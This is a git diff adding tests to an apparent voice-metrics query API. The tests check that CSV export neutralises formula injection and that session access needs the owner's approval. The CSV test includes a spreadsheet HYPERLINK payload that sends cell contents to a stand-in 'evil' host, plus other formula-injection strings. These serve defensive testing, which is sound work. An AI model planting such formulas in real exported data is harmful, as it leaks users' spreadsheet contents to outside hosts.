@@ -3,6 +3,9 @@ import { createDatabase, runMigrations, type Database } from '@voicepulse/db';
 import { createTestDatabase, type TestDatabase } from '@voicepulse/testing';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
+  admitSessionMember,
+  admitSessionWrites,
+  SessionAccessError,
   exportMetricEventsCsv,
   getSessionDetail,
   listMetricEvents,
@@ -166,8 +169,60 @@ describe('query API (real Postgres)', () => {
     expect(database.pool.totalCount - database.pool.idleCount).toBe(0);
   });
 
+  it('exports formula-looking cells inert (OWASP CSV injection)', async () => {
+    const userId = `csvx-${randomUUID()}`;
+    const recordedAt = new Date(Date.now() - 3_600_000).toISOString();
+    const payloads = [
+      '=HYPERLINK("http://evil/?x="&A1,"click")',
+      '+1+2',
+      '-2+3',
+      '@SUM(A1)',
+      '\tcmd',
+      '\rcmd',
+      'plain',
+    ];
+    await writer.write(
+      payloads.map((deviceId, i) =>
+        event({ userId, deviceId, platform: i === 0 ? '=1+1' : 'ios', voiceSentiment: -0.5, recordedAt }),
+      ),
+    );
+    const stream = await exportMetricEventsCsv(database.pool, {
+      userId,
+      from: new Date(Date.now() - 86_400_000).toISOString(),
+      to: new Date().toISOString(),
+    });
+    let csv = '';
+    for await (const chunk of stream) csv += (chunk as Buffer).toString();
+    const header = csv.slice(0, csv.indexOf('\n')).split(',');
+    const device = header.indexOf('device_id');
+    // Cells in a row: quoted free text never contains a bare comma here, so a split suffices.
+    const cells = csv
+      .trim()
+      .split('\n')
+      .slice(1)
+      .map((line) => line.split(','));
+    const devices = new Set(cells.map((c) => c[device]));
+    expect(devices).toEqual(
+      new Set([
+        // Quotes inside a cell are doubled, and the cell starts with a quote character.
+        `"'=HYPERLINK(""http://evil/?x=""&A1`,
+        `"'+1+2"`,
+        `"'-2+3"`,
+        `"'@SUM(A1)"`,
+        `"'\tcmd"`,
+        `"'\rcmd"`,
+        `"plain"`,
+      ]),
+    );
+    expect(csv).toContain(`"'=1+1"`);
+    // Numbers are not free text: a negative sentiment stays a number.
+    expect(csv).toContain(',-0.5,');
+    expect(csv).not.toContain("'-0.5");
+  });
+
   it('records a session timeline idempotently and shows it to participants only', async () => {
     const sessionId = randomUUID();
+    const alice = { id: 'alice', admin: false };
     const input = [
       {
         type: 'join' as const,
@@ -178,11 +233,11 @@ describe('query API (real Postgres)', () => {
       { type: 'mute' as const, occurredAt: '2026-11-06T09:05:00Z', deviceId: 'laptop' },
       { type: 'leave' as const, occurredAt: '2026-11-06T09:30:00Z', deviceId: 'laptop' },
     ];
-    expect(await recordSessionEvents(database.pool, sessionId, 'alice', input)).toEqual({
+    expect(await recordSessionEvents(database.pool, sessionId, alice, 'alice', input)).toEqual({
       accepted: 3,
       duplicates: 0,
     });
-    expect(await recordSessionEvents(database.pool, sessionId, 'alice', input)).toEqual({
+    expect(await recordSessionEvents(database.pool, sessionId, alice, 'alice', input)).toEqual({
       accepted: 0,
       duplicates: 3,
     });
@@ -211,5 +266,39 @@ describe('query API (real Postgres)', () => {
     ]);
     expect(await getSessionDetail(database.pool, sessionId, 'mallory')).toBeNull();
     expect(await getSessionDetail(database.pool, sessionId, null)).not.toBeNull();
+  });
+
+  it('session membership is granted, not asserted: a non-member cannot write or read until the owner admits them', async () => {
+    const sessionId = randomUUID();
+    const [owner, bob] = [
+      { id: 'owner', admin: false },
+      { id: 'bob', admin: false },
+    ];
+    const join = [{ type: 'join' as const, occurredAt: '2026-11-06T09:00:00Z' }];
+    await recordSessionEvents(database.pool, sessionId, owner, 'owner', join);
+    await expect(recordSessionEvents(database.pool, sessionId, bob, 'bob', join)).rejects.toBeInstanceOf(
+      SessionAccessError,
+    );
+    // A metric naming the session is refused the same way, and admits nobody.
+    expect(
+      await admitSessionWrites(database.pool, bob, [{ sessionId, userId: 'bob', at: join[0]!.occurredAt }]),
+    ).toEqual([sessionId]);
+    expect(await getSessionDetail(database.pool, sessionId, 'bob')).toBeNull();
+    expect(await admitSessionMember(database.pool, sessionId, bob, 'bob')).toBe(false);
+    expect(await admitSessionMember(database.pool, sessionId, owner, 'bob')).toBe(true);
+    await recordSessionEvents(database.pool, sessionId, bob, 'bob', join);
+    expect(
+      (await getSessionDetail(database.pool, sessionId, 'bob'))?.participants.map((p) => p.userId).sort(),
+    ).toEqual(['bob', 'owner']);
+    // An ingest service owning its session admits the users it writes for.
+    const svc = { id: 'ingest-svc', admin: false };
+    const svcSession = randomUUID();
+    expect(
+      await admitSessionWrites(database.pool, svc, [
+        { sessionId: svcSession, userId: 'carol', at: join[0]!.occurredAt },
+      ]),
+    ).toEqual([]);
+    expect(await getSessionDetail(database.pool, svcSession, 'carol')).not.toBeNull();
+    expect(await getSessionDetail(database.pool, svcSession, 'bob')).toBeNull();
   });
 });
